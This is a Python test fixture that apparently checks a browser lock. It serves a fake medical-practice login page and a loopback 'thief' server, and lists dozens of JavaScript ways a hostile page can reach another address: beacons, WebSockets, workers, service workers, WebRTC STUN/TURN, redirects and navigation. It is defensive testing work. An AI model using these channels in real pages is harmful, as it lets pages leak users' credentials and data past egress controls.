"""A practice site that has turned malicious, and a thief: a server that records what reaches it.

The practice's own pages work. `WAYS` and `LEAVING` hold every way that a page has to reach
another address.
"""

from __future__ import annotations

import contextlib
import http.server
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import parse_qs, urlsplit

from playwright.sync_api import Error, Page

FORM = """<form method=post action=/app/taken/>
  <label>Practice Code <input name=code></label><button>Continue</button>
  <label>Username <input name=user></label>
  <label>Password <input type=password name=password></label><button>Log In</button></form>"""


class Thief:
    """Keeps a list of what reached the other address: connections, requests and UDP packets."""

    def __init__(self) -> None:
        self.arrived: list[str] = []
        self.bodies: list[str] = []
        self._something = threading.Condition()

    def note(self, what: str, body: str = "") -> None:
        """Record what arrived."""
        with self._something:
            self.arrived.append(what)
            self.bodies.append(body)
            self._something.notify_all()

    def waits_for(self, names: set[str], seconds: float) -> set[str]:
        """Wait until all the names have arrived or the time is over; return what is missing."""
        with self._something:
            self._something.wait_for(lambda: names <= set(self.arrived), seconds)
            return names - set(self.arrived)

    def has_anything(self, seconds: float) -> list[str]:
        """Wait for anything to arrive, until the time is over; return all that arrived."""
        with self._something:
            self._something.wait_for(lambda: bool(self.arrived), seconds)
            return list(self.arrived)


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    thief: Thief
    away = ""  # the thief's address

    def handle_error(self, *_: Any) -> None:
        """Ignore a browser that hangs up."""


class _Quiet(http.server.BaseHTTPRequestHandler):
    server: _Server

    def log_message(self, *_: Any) -> None:
        """Keep the test's output clean."""

    def give(self, text: str, kind: str = "text/html", status: int = 200, **more: str) -> None:
        body = text.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in more.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        with contextlib.suppress(OSError):
            self.wfile.write(body)


class _Practice(_Quiet):
    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        to = parse_qs(parts.query).get("to", [""])[0]
        away = self.server.away
        if parts.path.startswith("/go/"):
            self.give("", status=int(parts.path[4:7]), Location=away + to)
        elif parts.path.endswith(".js"):
            self.give(_SCRIPTS[parts.path[1:-3]] % {"thief": away}, "text/javascript")
        elif parts.path == "/refresh":
            self.give(f'<meta http-equiv=refresh content="0;url={away}/meta-refresh">')
        elif parts.path == "/csp":
            policy = f"img-src 'none'; report-uri {away}/csp-report"
            self.give("<img src=/x.png>", Content_Security_Policy=policy)
        else:
            self.give(f"<!doctype html><title>Practice</title><h1>Patients</h1>{FORM}")

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.do_GET()


class _Elsewhere(_Quiet):
    def handle(self) -> None:
        self.server.thief.note("connection")
        if self.connection.recv(1, socket.MSG_PEEK) == b"\x00":  # as TURN begins, and no request
            self.server.thief.note("turn")
        super().handle()

    def do_GET(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode(errors="replace")
        self.server.thief.note(urlsplit(self.path).path.strip("/"), body)
        self.give(FORM, Access_Control_Allow_Origin="*")

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815  the library calls these names


_SCRIPTS = {
    "worker": """fetch('%(thief)s/worker-fetch', {mode: 'no-cors'}).catch(() => 0);
        fetch('/go/302?to=/worker-redirect', {mode: 'no-cors'}).catch(() => 0);
        try { new WebSocket('%(thief)s/worker-socket'.replace('http', 'ws')) } catch (e) {}
        try { importScripts('%(thief)s/worker-import') } catch (e) {}""",
    "shared": """fetch('%(thief)s/shared-fetch', {mode: 'no-cors'}).catch(() => 0);
        fetch('/go/302?to=/shared-redirect', {mode: 'no-cors'}).catch(() => 0);
        try { new WebSocket('%(thief)s/shared-socket'.replace('http', 'ws')) } catch (e) {}""",
    "service": """const all = () => Promise.allSettled([
            fetch('%(thief)s/service-fetch', {mode: 'no-cors'}),
            fetch('/go/302?to=/service-redirect', {mode: 'no-cors'})]);
        addEventListener('install', e => e.waitUntil(all()));
        addEventListener('activate', e => e.waitUntil(clients.claim()));
        addEventListener('fetch', e => {
            fetch('%(thief)s/service-spy', {mode: 'no-cors'}).catch(() => 0); });""",
}

_ADD = "const add = (tag, more) => { const e = Object.assign(document.createElement(tag), more);"
_ADD += " for (const k in more) if (/-|^as$|^ping$/.test(k)) e.setAttribute(k, more[k]);"
_ADD += " document.body.append(e); return e; };"
_LINKS = ["prefetch", "prerender", "preconnect", "stylesheet", "icon", "manifest", "modulepreload"]
_REDIRECTED = {
    **{f"fetch-{code}": f"fetch('/go/{code}?to=/fetch-{code}', {{mode: 'no-cors'}})"
       for code in (301, 302, 303, 307, 308)},
    "post-307": "fetch('/go/307?to=/post-307', {method: 'POST', mode: 'no-cors', body: 'name=x'})",
    "image-302": "add('img', {src: '/go/302?to=/image-302'})",
    "script-302": "add('script', {src: '/go/302?to=/script-302'})",
    "style-302": "add('link', {rel: 'stylesheet', href: '/go/302?to=/style-302'})",
    "frame-302": "add('iframe', {src: '/go/302?to=/frame-302'})",
    "beacon-307": "navigator.sendBeacon('/go/307?to=/beacon-307', 'name=x')",
    "events-302": "new EventSource('/go/302?to=/events-302')",
    "form-307": "(f => { f.innerHTML = '<input name=a value=b>'; f.submit(); })(add('form', {"
    "method: 'post', action: '/go/307?to=/form-307', target: add('iframe', {name: 'f7'}).name}))",
    "speculated": "add('script', {type: 'speculationrules', textContent: JSON.stringify({"
    "prerender: [{source: 'list', urls: ['/go/302?to=/speculated'], eagerness: 'immediate'}]})})",
    "popup-302": "window.open('/go/302?to=/popup-302')",
}  # fmt: skip
_DIRECT = {
    "fetch": "fetch(thief + '/fetch', {mode: 'no-cors'})",
    "keepalive": "fetch(thief + '/keepalive', {mode: 'no-cors', keepalive: true})",
    "beacon": "navigator.sendBeacon(thief + '/beacon', 'name=x')",
    "events": "new EventSource(thief + '/events')",
    "socket": "new WebSocket(thief.replace('http', 'ws') + '/socket')",
    "image": "add('img', {src: thief + '/image'})",
    "script": "add('script', {src: thief + '/script'})",
    "frame": "add('iframe', {src: thief + '/frame'})",
    "object": "add('object', {data: thief + '/object', type: 'text/html'})",
    "embed": "add('embed', {src: thief + '/embed', type: 'text/html'})",
    "video": "add('video', {src: thief + '/video', preload: 'auto'})",
    "font": "new FontFace('x', `url(${thief}/font)`).load()",
    "ping": "add('a', {href: '#here', ping: thief + '/ping'}).click()",
    "form": "add('form', {method: 'post', action: thief + '/form', "
    "target: add('iframe', {name: 'f'}).name}).submit()",
    "popup": "window.open(thief + '/popup')",
    "meta-refresh": "add('iframe', {src: '/refresh'})",
    "csp-report": "add('iframe', {src: '/csp'})",
    **{f"link-{rel}": f"add('link', {{rel: '{rel}', href: thief + '/link-{rel}', as: 'script'}})"
       for rel in _LINKS},
    "worker": "new Worker('/worker.js')",
    "shared": "new SharedWorker('/shared.js')",
    "service": "navigator.serviceWorker.register('/service.js')",
    "stun": "(async c => { c.createDataChannel('x'); await c.setLocalDescription(); })("
    "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + udp}]}))",
    "turn": "(async c => { c.createDataChannel('x'); await c.setLocalDescription(); })("
    "new RTCPeerConnection({iceServers: [{username: 'u', credential: 'p', "
    "urls: 'turn:127.0.0.1:' + new URL(thief).port + '?transport=tcp'}]}))",
    "webtransport": "new WebTransport('https://127.0.0.1:' + udp + '/').ready",
}  # fmt: skip
WAYS = {**_DIRECT, **_REDIRECTED}
"""Every way to reach another address while the page itself stays, each as a line of script."""

LEAVING = {
    "top": "location.href = thief + '/top'",
    "download": "add('a', {href: thief + '/download', download: 'x'}).click()",
    "top-302": "location.href = '/go/302?to=/top-302'",
    "top-form": "(f => { f.innerHTML = '<input name=a value=b>'; f.submit(); })("
    "add('form', {method: 'post', action: '/go/307?to=/top-form'}))",
    "top-refresh": "location.href = '/refresh'",
}
"""The ways in which the whole page itself leaves, and a download."""

ARRIVE_AT_A_PLAIN_BROWSER = (
    set(WAYS) - {"worker", "shared", "service", "link-prerender", "link-preconnect", "link-icon",
                 "link-manifest", "stun", "webtransport", "speculated"}
) | {"worker-fetch", "worker-redirect", "worker-import", "worker-socket", "shared-fetch",
     "shared-redirect", "shared-socket", "service-fetch", "service-redirect", "connection",
     "udp"}  # fmt: skip
"""What the thief must get from a browser without the lock; otherwise the tests prove nothing."""


class Hostile:
    """The two running servers: the practice's address, the thief, and the thief's UDP port."""

    def __init__(self, practice: _Server, thief: Thief, udp: int) -> None:
        self.address = f"http://127.0.0.1:{practice.server_port}"
        self.server = practice
        self.thief = thief
        self.udp = udp

    def try_all(self, tab: Page) -> None:
        """Try every way during which the page itself stays."""
        tab.goto(self.address + "/")
        for script in WAYS.values():
            self._try(tab, script)

    def try_leaving(self, tab: Page) -> None:
        """Try every way in `LEAVING`, each from the practice's own page."""
        for script in LEAVING.values():
            tab.goto(self.address + "/")
            with contextlib.suppress(Error), tab.expect_event("framenavigated", timeout=2000):
                self._try(tab, script)

    def _try(self, tab: Page, script: str) -> None:
        code = "([thief, udp]) => { %s try { const p = %s; p?.catch?.(() => 0); } catch (e) {} }"
        tab.evaluate(code % (_ADD, script), [self.server.away, self.udp])


@contextmanager
def hostile() -> Iterator[Hostile]:
    """Serve the practice and the thief on loopback until the block ends."""
    thief = Thief()
    practice = _Server(("127.0.0.1", 0), _Practice)
    elsewhere = _Server(("127.0.0.1", 0), _Elsewhere)
    elsewhere.thief = thief
    practice.away = f"http://127.0.0.1:{elsewhere.server_port}"
    packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packets.bind(("127.0.0.1", 0))
    packets.settimeout(0.2)
    ended = threading.Event()

    def listen() -> None:
        while not ended.is_set():
            with contextlib.suppress(TimeoutError):
                packets.recv(2048)
                thief.note("udp")

    servers = (practice, elsewhere)
    threads = [threading.Thread(target=s.serve_forever, args=(0.05,)) for s in servers]
    threads.append(threading.Thread(target=listen))
    for thread in threads:
        thread.start()
    try:
        yield Hostile(practice, thief, packets.getsockname()[1])
    finally:
        ended.set()
        for server in servers:
            server.shutdown()
            server.server_close()
        for thread in threads:
            thread.join()
        packets.close()
